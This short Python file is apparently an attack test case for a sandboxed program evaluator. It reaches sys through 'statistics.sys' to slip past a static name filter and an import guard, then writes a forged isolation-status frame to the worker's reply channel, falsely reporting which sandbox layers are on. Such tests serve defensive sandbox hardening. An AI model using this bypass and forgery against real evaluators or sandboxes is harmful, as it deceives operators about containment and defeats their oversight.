"""ATTACK: forge the load reply before the worker sends the real one. Module-level code
runs before the worker reports its isolation, so it writes its own {"ok": true, ...,
"isolation": {...}} frame to fd 4 claiming layers that are not what the worker applied
("seccomp": "off (forged)"). The evaluator should not report a program-written isolation
level."""

import statistics

# statistics.sys is a public attribute, so the static filter sees no forbidden import or name
# and the runtime import guard is never asked: both in-process filters are bypassed.
_sys = statistics.sys
json = _sys.modules["json"]
os = _sys.modules["os"]
struct = _sys.modules["struct"]

_fake = {
    "ok": True,
    "kind": "function",
    "isolation": {
        "process": "on (forged)",
        "environment": "on (forged)",
        "rlimits": "on (forged)",
        "seccomp": "off (forged)",
    },
}
_h = json.dumps(_fake).encode()
os.write(4, struct.pack("!II", len(_h), 0) + _h)


def policy(obs):
    return 0
